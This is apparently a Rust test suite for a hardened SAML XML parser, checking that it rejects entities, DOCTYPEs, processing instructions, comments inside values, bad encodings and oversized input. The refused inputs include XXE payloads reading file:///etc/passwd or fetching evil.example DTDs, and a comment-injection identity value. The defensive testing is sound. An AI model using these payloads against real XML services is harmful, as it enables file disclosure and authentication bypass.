//! What the reader refuses, rule by rule, and what it makes of what it takes.

use doorward::saml::xml::{Limits, XmlError, read};

use crate::support::parse;

#[track_caller]
fn refused(rule: XmlError, documents: &[&str]) {
    for document in documents {
        assert_eq!(parse(document).err(), Some(rule), "{document:?}");
    }
}

fn value(document: &str) -> String {
    parse(document).unwrap().root().text().unwrap().to_owned()
}

fn attribute(document: &str) -> String {
    parse(document)
        .unwrap()
        .root()
        .attribute("x")
        .unwrap()
        .to_owned()
}

#[test]
fn text_references_and_cdata_make_one_value() {
    assert_eq!(value("<a>AT&amp;T</a>"), "AT&T");
    assert_eq!(value("<a>x<![CDATA[<&]]>y&#x41;&lt;</a>"), "x<&yA<");
    assert_eq!(value("<a/>"), "");
    assert_eq!(value("<a></a>"), "");
    assert_eq!(value(" <a> v </a> "), " v ");
}

#[test]
fn line_ends_become_one_line_feed_and_referenced_ones_stay() {
    assert_eq!(value("<a>1\r\n2\r3\n4&#13;5\r</a>"), "1\n2\n3\n4\r5\n");
    assert_eq!(value("<a>\r<![CDATA[\n\r\n]]></a>"), "\n\n\n");
}

#[test]
fn white_space_in_attributes_becomes_blanks_and_referenced_one_stays() {
    assert_eq!(
        attribute("<a x='1\r\n2\t3\n4\r5&#13;6&#x9;7&#10;8'/>"),
        "1 2 3 4 5\r6\t7\n8"
    );
    assert_eq!(attribute("<a x = \"'&apos;&quot;>\"\n/>"), "''\">");
}

#[test]
fn t_ns_names_are_compared_by_namespace_and_attributes_without_prefix_have_none() {
    let document = parse(
        "<p:Issuer xmlns:p='urn:p' xmlns='urn:d' p:ID='evil' x='1'><Issuer/><q:Issuer \
         xmlns:q='urn:evil'/></p:Issuer>",
    )
    .unwrap();
    let root = document.root();
    assert!(root.is("urn:p", "Issuer") && !root.is("urn:d", "Issuer"));
    assert_eq!(root.attribute("ID"), None);
    assert_eq!(root.attribute_ns("urn:p", "ID"), Some("evil"));
    assert_eq!(root.attribute_ns("urn:d", "x"), None);
    assert_eq!(root.children_named("urn:d", "Issuer").count(), 1);
    assert!(root.child("urn:p", "Issuer").is_none());
    assert_eq!(root.text(), Err(XmlError::ElementInValue));
}

#[test]
fn a_default_namespace_can_be_taken_away() {
    let document = parse("<a xmlns='urn:a'><b xmlns=''/></a>").unwrap();
    assert!(document.root().children().next().unwrap().is("", "b"));
}

#[test]
fn t_txt_comment_a_comment_may_stand_between_elements_and_nowhere_else() {
    assert!(parse("<!-- a --><a> <!-- b --> <b/><!----></a><!-- c -->").is_ok());
    refused(
        XmlError::CommentInValue,
        &[
            "<a>admin<!-- -->@evil.example</a>",
            "<a><!-- -->admin</a>",
            "<a>admin<!-- --></a>",
            "<a><!-- --></a>",
            "<a>x<b/><!-- --></a>",
            "<a><b>1<!-- -->2</b></a>",
        ],
    );
    refused(
        XmlError::Comment,
        &["<a><!-- -- --><b/></a>", "<a><!-- ---><b/></a>"],
    );
}

#[test]
fn t_txt_pi_no_processing_instruction_is_taken() {
    refused(
        XmlError::ProcessingInstruction,
        &[
            "<a>https://sp.ex<?x y?>ample</a>",
            "<?xml-stylesheet href='http://evil.example/x'?><a/>",
            "<a/><?x?>",
            "<a><?XML version='1.0'?></a>",
        ],
    );
    refused(XmlError::Markup, &["<a><?>", "<a><?x>"]);
}

#[test]
fn t_xxe_no_document_type_and_no_entity_is_taken() {
    refused(
        XmlError::DocumentType,
        &[
            "<!DOCTYPE a SYSTEM 'http://evil.example/x.dtd'><a/>",
            "<!DOCTYPE a SYSTEM 'file:///etc/passwd'><a/>",
            "<!DOCTYPE a [<!ENTITY % p SYSTEM 'http://evil.example/'> %p;]><a/>",
            "<!DOCTYPE a [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><a>&e;</a>",
            "<!DOCTYPE a [<!ENTITY e 'v'>]><a x='&e;'/>",
            "<!DOCTYPE a><a/>",
            "<!doctype a><a/>",
            "<a><!DOCTYPE b></a>",
        ],
    );
    refused(
        XmlError::Entity,
        &[
            "<a>&e;</a>",
            "<a x='&e;'/>",
            "<a>&AMP;</a>",
            "<a>&;</a>",
            "<a>& </a>",
            "<a x='&amp'/>",
        ],
    );
    // What only another processor would act on is an element or attribute like any other.
    for inert in [
        "<a><i:include xmlns:i='http://www.w3.org/2001/XInclude' href='file:///etc/passwd'/></a>",
        "<a xmlns:s='http://www.w3.org/2001/XMLSchema-instance' s:schemaLocation='u http://e/'/>",
    ] {
        assert!(parse(inert).is_ok(), "{inert}");
    }
}

#[test]
fn t_diff_1_there_is_one_root_and_nothing_beside_it() {
    refused(XmlError::SecondRoot, &["<a/><b/>", "<a></a><a></a>"]);
    refused(
        XmlError::TextOutsideRoot,
        &["<a/>x", "x<a/>", "<a/>&#32;", "<a/><![CDATA[ ]]>"],
    );
    refused(
        XmlError::NoRoot,
        &["", " ", "<!-- -->", "<?xml version='1.0'?>", "\u{FEFF}"],
    );
}

#[test]
fn t_diff_2_broken_documents_are_not_repaired() {
    refused(
        XmlError::IllegalCharacter,
        &["<a/>\0", "<a>\u{B}</a>", "<a>\u{FFFE}</a>"],
    );
    refused(
        XmlError::Tags,
        &[
            "<a>",
            "<a><b></a>",
            "<a></b>",
            "</a>",
            "<a/></a>",
            "<a></ a>",
        ],
    );
    refused(
        XmlError::Markup,
        &[
            "<a",
            "<a><!x></a>",
            "<a><![CDATA[</a>",
            "<a><!--</a>",
            "<",
            "<a x='",
        ],
    );
}

#[test]
fn characters_given_by_number_are_characters_of_xml() {
    refused(
        XmlError::IllegalCharacter,
        &[
            "<a>&#0;</a>",
            "<a>&#xFFFE;</a>",
            "<a>&#xD800;</a>",
            "<a x='&#1;'/>",
            "<a>&#x110000;</a>",
            "<a>&#99999999999999999999;</a>",
        ],
    );
    refused(
        XmlError::Entity,
        &[
            "<a>&#;</a>",
            "<a>&#x;</a>",
            "<a>&#+65;</a>",
            "<a>&#X41;</a>",
            "<a>&#-1;</a>",
        ],
    );
}

#[test]
fn t_diff_5_only_utf_8_and_xml_1_0_are_read() {
    assert!(parse("<?xml version=\"1.0\" encoding='utf-8' standalone=\"no\" ?>\n<a/>").is_ok());
    assert!(parse("\u{FEFF}<?xml version='1.0'?><a/>").is_ok());
    refused(
        XmlError::TextOutsideRoot,
        &["\u{FEFF}\u{FEFF}<a/>", "<a/>\u{FEFF}"],
    );
    refused(
        XmlError::ForeignEncoding,
        &[
            "<?xml version='1.0' encoding='UTF-7'?><a/>",
            "<?xml version='1.0' encoding='ISO-8859-1'?><a/>",
            "<?xml version='1.0' encoding='UTF-16'?><a/>",
            "<?xml version='1.0' encoding=''?><a/>",
        ],
    );
    refused(XmlError::ForeignVersion, &["<?xml version='1.1'?><a/>"]);
    refused(
        XmlError::Declaration,
        &[
            "<?xml?><a/>",
            "<?xml encoding='UTF-8'?><a/>",
            " <?xml version='1.0'?><a/>",
            "<a/><?xml version='1.0'?>",
            "<?xml version='1.0' standalone='maybe'?><a/>",
            "<?xml version='1.0' x='1'?><a/>",
            "<?xml version='1.0' standalone='no' encoding='UTF-8'?><a/>",
            "<?xml version='1.0'encoding='UTF-8'?><a/>",
        ],
    );
    let utf16: Vec<u8> = "\u{FEFF}<a/>"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    for bytes in [
        utf16.as_slice(),
        b"<a>\xE9</a>",
        b"<a>\xED\xA0\x80</a>",
        b"<a>\xC0\xBC</a>",
    ] {
        assert_eq!(read(bytes, &Limits::MESSAGE).err(), Some(XmlError::NotUtf8));
    }
}

#[test]
fn names_are_qualified_names() {
    refused(
        XmlError::Name,
        &[
            "<1/>",
            "<a:b:c xmlns:a='u:a'/>",
            "<:a/>",
            "<a:/>",
            "< a/>",
            "<a/ >",
            "<a -x='1'/>",
            "<a :x='1'/>",
            "<a x:='1'/>",
            "<a xmlns:='urn:a'/>",
            "<a b c='1'/>",
            "<a =''/>",
            "<a\u{a0}b='1'/>",
            "<>",
        ],
    );
    refused(
        XmlError::UndeclaredPrefix,
        &["<p:a/>", "<a p:x='1'/>", "<a><b xmlns:p='u:p'/><p:c/></a>"],
    );
}

#[test]
fn t_c14n_void_namespace_names_are_absolute() {
    refused(
        XmlError::RelativeNamespace,
        &[
            "<a xmlns:q='1'/>",
            "<a xmlns='x/y'/>",
            "<a xmlns:q='//e.example/'/>",
            "<a xmlns:q=' '/>",
            "<a xmlns:q='urn:a b'/>",
        ],
    );
    refused(XmlError::EmptyNamespace, &["<a xmlns:p=''/>"]);
}

#[test]
fn the_prefixes_of_xml_itself_are_not_rebound() {
    assert!(parse("<a xmlns:xml='http://www.w3.org/XML/1998/namespace' xml:lang='de'/>").is_ok());
    refused(
        XmlError::ReservedPrefix,
        &[
            "<a xmlns:xml='urn:x'/>",
            "<a xmlns:xmlns='urn:x'/>",
            "<xmlns:a/>",
            "<a xmlns:p='http://www.w3.org/XML/1998/namespace'/>",
            "<a xmlns='http://www.w3.org/2000/xmlns/'/>",
            "<a xmlns:xmlns='http://www.w3.org/2000/xmlns/'/>",
            "<a xmlns:xml=''/>",
        ],
    );
}

#[test]
fn attributes_are_well_formed_and_occur_once() {
    refused(
        XmlError::AttributeSyntax,
        &["<a x/>", "<a x=1/>", "<a x=/>", "<a x='1' y/>"],
    );
    refused(
        XmlError::MissingSpace,
        &["<a x='1'y='2'/>", "<a x=\"\"\"\"/>"],
    );
    refused(XmlError::LessThanInAttribute, &["<a x='<'/>"]);
    refused(
        XmlError::DuplicateAttribute,
        &[
            "<a x='1' x='1'/>",
            "<a xmlns:p='u:p' xmlns:q='u:p' p:x='1' q:x='2'/>",
            "<a xmlns:p='u:1' xmlns:p='u:2'/>",
            "<a xmlns='u:1' xmlns='u:1'/>",
        ],
    );
    assert!(parse("<a xmlns='u:p' xmlns:p='u:p' x='1' p:x='2'/>").is_ok());
}

#[test]
fn an_id_occurs_once_in_the_whole_document() {
    refused(
        XmlError::DuplicateId,
        &[
            "<a ID='i'><b ID='i'/></a>",
            "<a><b ID='i'/><c><d ID='i'/></c></a>",
            "<a ID='i'><b xml:id='i'/></a>",
            "<a ID='&#105;'><b ID='i'/></a>",
            "<a ID=''><b ID=''/></a>",
        ],
    );
    assert!(parse("<a ID='i'><b xmlns:p='u:p' p:ID='i'/></a>").is_ok());
}

#[test]
fn the_end_of_a_cdata_section_does_not_stand_in_text() {
    refused(
        XmlError::CdataEnd,
        &["<a>]]></a>", "<a>x<![CDATA[y]]>]]></a>"],
    );
    assert_eq!(value("<a>]]&gt;]]</a>"), "]]>]]");
}

#[test]
fn t_size_the_limits_hold() {
    let limit = Limits::MESSAGE;
    let message = |text: &str| read(text.as_bytes(), &limit).err();
    let nested = |depth: usize| "<a>".repeat(depth) + &"</a>".repeat(depth);
    assert_eq!(message(&nested(32)), None);
    assert_eq!(message(&nested(33)), Some(XmlError::TooDeep));
    let wide = |count: usize| format!("<a>{}</a>", "<b/>".repeat(count));
    assert_eq!(message(&wide(1_999)), None);
    assert_eq!(message(&wide(2_000)), Some(XmlError::TooManyNodes));
    assert_eq!(message(&wide(60_000)), Some(XmlError::TooManyNodes));
    assert_eq!(
        message(&format!("<a>{}</a>", "<!---->".repeat(2_000))),
        Some(XmlError::TooManyNodes)
    );
    let padded = |length: usize| format!("<a>{}</a>", "x".repeat(length - 7));
    assert_eq!(message(&padded(256 * 1024)), None);
    assert_eq!(message(&padded(256 * 1024 + 1)), Some(XmlError::TooLarge));
    let declared = |count| numbered(count, "xmlns:p{}='u:p' ");
    let attributes = |count| format!("<a {}/>", numbered(count, "x{}='' "));
    assert_eq!(message(&attributes(64)), None);
    assert_eq!(message(&attributes(65)), Some(XmlError::TooManyAttributes));
    assert_eq!(
        message(&attributes(10_000)),
        Some(XmlError::TooManyAttributes)
    );
    let namespaces = |count| format!("<a {}/>", declared(count));
    assert_eq!(message(&namespaces(32)), None);
    assert_eq!(message(&namespaces(33)), Some(XmlError::TooManyNamespaces));
    assert_eq!(
        message(&namespaces(10_000)),
        Some(XmlError::TooManyAttributes)
    );
    let inherited = format!("<a {}><b xmlns:q='u:q'/></a>", declared(32));
    assert_eq!(message(&inherited), Some(XmlError::TooManyNamespaces));
}

/// The pattern `count` times, its braces replaced by the number.
fn numbered(count: usize, pattern: &str) -> String {
    (0..count)
        .map(|number| pattern.replace("{}", &number.to_string()))
        .collect()
}
